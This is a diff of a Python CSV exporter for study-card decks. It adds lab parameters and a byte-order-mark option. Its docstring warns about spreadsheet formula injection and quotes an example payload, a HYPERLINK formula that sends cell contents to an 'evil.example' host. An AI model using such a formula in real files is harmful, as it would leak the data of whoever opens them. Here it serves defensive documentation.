@@ -2,7 +2,9 @@
 
 Columns: id, deck, kind, topic, question, answer, explanation, tags, lab. Multi-line cells (the
 choices under a question, several accepted answers) keep their line breaks inside quotes; tags are
-joined with "; ". The lab column holds the linked lab's name.
+joined with "; ". Card text is written as it is, Markdown and all. The lab column holds the linked
+lab's name and its parameters (`prompt-vs-prefix task=sort steps=200`). `deck export --bom`
+starts the file with a UTF-8 byte order mark, which Excel needs to read UTF-8.
 
 A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also after
 a tab or a carriage return), so a card reading `=HYPERLINK("http://evil.example/?"&A1)` would
@@ -15,7 +17,7 @@ from __future__ import annotations
 import csv
 import io
 
-from studykit.deck.export.plain import answer_text, question_text
+from studykit.deck.export.plain import answer_text, lab_text, question_text
 from studykit.deck.model import Deck
 
 COLUMNS = ("id", "deck", "kind", "topic", "question", "answer", "explanation", "tags", "lab")
@@ -44,7 +46,7 @@ def to_csv(decks: list[Deck]) -> str:
                 "answer": answer_text(card),
                 "explanation": card.explanation,
                 "tags": TAG_SEPARATOR.join(card.tags),
-                "lab": card.lab.name if card.lab else "",
+                "lab": lab_text(card),
             }
             writer.writerow({column: cell(value) for column, value in row.items()})
     return buffer.getvalue()
